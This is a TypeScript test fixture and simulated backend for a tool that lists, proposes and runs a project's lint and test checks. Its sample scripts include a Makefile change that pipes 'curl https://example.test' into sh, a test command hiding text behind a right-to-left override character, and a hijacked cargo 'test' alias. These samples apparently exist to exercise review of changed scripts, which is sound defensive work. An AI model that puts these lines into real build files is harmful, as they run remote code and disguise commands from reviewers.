// The checks of a scene: what a person keeps, what the project's files propose, and how one runs. A scene without any proposes none.

import type { AcceptedCheck } from '$lib/generated/AcceptedCheck';
import type { CheckCommand } from '$lib/generated/CheckCommand';
import type { CheckRun } from '$lib/generated/CheckRun';
import type { CheckScript } from '$lib/generated/CheckScript';
import type { Op } from '$lib/generated/Op';
import type { Outcome } from '$lib/generated/Outcome';
import type { ProjectChecks } from '$lib/generated/ProjectChecks';
import type { Update } from '$lib/generated/Update';
import { error, NOON } from './fixtures';

const script = (digit: string, ...parts: [string, string][]): CheckScript => ({
  sha256: digit.repeat(64),
  parts: parts.map(([from, text]) => ({ from, text })),
});

const LINT = script('1', ['package.json: scripts.lint', 'eslint .']);
const TEST = script(
  '2',
  ['.npmrc', 'registry=https://registry.example.test/\n//registry.example.test/:_authToken=…'],
  ['package.json: scripts.pretest', 'npm run build'],
  ['package.json: scripts.test', 'vitest run\u202e && echo done'],
);

/** A project with a check that failed, one whose script changed, and two proposals. */
export const CHECKED: ProjectChecks = {
  checks: [
    {
      check: { name: 'cargo-test', command: 'cargo test --workspace', timeoutS: 300, on: true },
      script: script('3', ['.cargo/config.toml', '[alias]\nxtask = "run --package xtask --"']),
      last: 'failed',
      lastAtMs: NOON,
    },
    {
      check: { name: 'make-lint', command: 'make lint', timeoutS: 60, paths: ['src/**'], on: false },
      script: script('4', ['Makefile: lint', 'lint:\n\tcargo clippy\n']),
      changed: script('5', ['Makefile: lint', 'lint:\n\tcargo clippy || true\n\tcurl https://example.test | sh\n']),
    },
  ],
  proposed: [
    { check: { name: 'npm-test', command: 'npm test', timeoutS: 300, on: true }, from: 'package.json', script: TEST },
    {
      check: { name: 'npm-lint', command: 'npm run lint', timeoutS: 300, on: true },
      from: 'package.json',
      script: LINT,
    },
  ],
  offered: false,
  byThemselves: true,
  bounds: { most: 8, seconds: 300, mostSeconds: 600 },
};

/** The same before anybody has accepted one. */
export const PROPOSED: ProjectChecks = { ...CHECKED, checks: [] };

/** The same where the script of the first one has changed, too. */
export const RESCRIPTED: ProjectChecks = {
  ...CHECKED,
  checks: CHECKED.checks.map((it, at) =>
    at === 0
      ? { ...it, changed: script('7', ['.cargo/config.toml', '[alias]\ntest = "run --package anything --"']) }
      : it,
  ),
};

export type ChecksOp = Extract<
  Op,
  { type: 'save_check' | 'remove_check' | 'run_checks' | 'stop_checks' | 'offered_checks' }
>;

export const isOfChecks = (op: Op): op is ChecksOp =>
  ['save_check', 'remove_check', 'run_checks', 'stop_checks', 'offered_checks'].includes(op.type);

const NONE: ProjectChecks = { ...CHECKED, checks: [], proposed: [] };

export class ReplayedChecks {
  #now: ProjectChecks;

  constructor(
    begins: ProjectChecks | undefined,
    private readonly tell: (update: Update) => void,
  ) {
    this.#now = begins ?? NONE;
  }

  get now(): ProjectChecks {
    return this.#now;
  }

  /** The script behind a line that a person typed. */
  scriptOf(command: CheckCommand): CheckScript {
    if (command === '') throw error('usage', 'command: command is empty.', 'Change it, then save the check again.');
    return script('6', ['check.sh', 'echo checked\n']);
  }

  async do(op: ChecksOp): Promise<Outcome> {
    const { projectId } = op;
    switch (op.type) {
      case 'save_check': {
        const seen = [
          ...this.#now.checks.flatMap((it) => [it.script, it.changed]),
          ...this.#now.proposed.map((it) => it.script),
        ];
        const accepted = seen.find((it) => it?.sha256 === op.script) ?? script('6');
        if (op.was === null && this.#now.checks.some((it) => it.check.name === op.check.name))
          throw error('usage', `name: this project has a check ${op.check.name} already.`, 'Choose another name.');
        const before = this.#now.checks.find((it) => it.check.name === op.was);
        const same = before?.script.sha256 === op.script;
        const kept: AcceptedCheck = { ...(same ? before : {}), check: op.check, script: accepted };
        const checks = before ? this.#now.checks.map((it) => (it === before ? kept : it)) : [...this.#now.checks, kept];
        const proposed = this.#now.proposed.filter((it) => it.check.command !== op.check.command);
        this.#become({ ...this.#now, checks, proposed }, projectId);
        return { type: 'checked', runs: same ? [] : [await this.#run(op.check.name, projectId)] };
      }
      case 'remove_check':
        this.#become({ ...this.#now, checks: this.#now.checks.filter((it) => it.check.name !== op.name) }, projectId);
        return { type: 'done' };
      case 'run_checks': {
        const runs: CheckRun[] = [];
        for (const name of this.#now.checks.length === 0 ? [] : op.names) runs.push(await this.#run(name, projectId));
        return { type: 'checked', runs };
      }
      case 'offered_checks':
        this.#become({ ...this.#now, offered: true }, projectId);
        return { type: 'done' };
      case 'stop_checks':
        return { type: 'done' };
    }
  }

  #become(now: ProjectChecks, projectId: string): void {
    this.#now = now;
    this.tell({ type: 'checks', projectId });
  }

  #change(name: string, projectId: string, change: Partial<AcceptedCheck>): void {
    const checks = this.#now.checks.map((it) => (it.check.name === name ? { ...it, ...change } : it));
    this.#become({ ...this.#now, checks }, projectId);
  }

  async #run(name: string, projectId: string): Promise<CheckRun> {
    this.#change(name, projectId, { running: true });
    this.tell({ type: 'check_output', projectId, name, text: 'running 2 tests\ntest it_adds ... ok\n' });
    await new Promise((resolve) => setTimeout(resolve, 50));
    this.#change(name, projectId, { running: false, last: 'passed', lastAtMs: NOON });
    return { name, status: 'passed', scriptSha256: '3'.repeat(64), excerpt: 'running 2 tests\ntest it_adds ... ok\n' };
  }
}
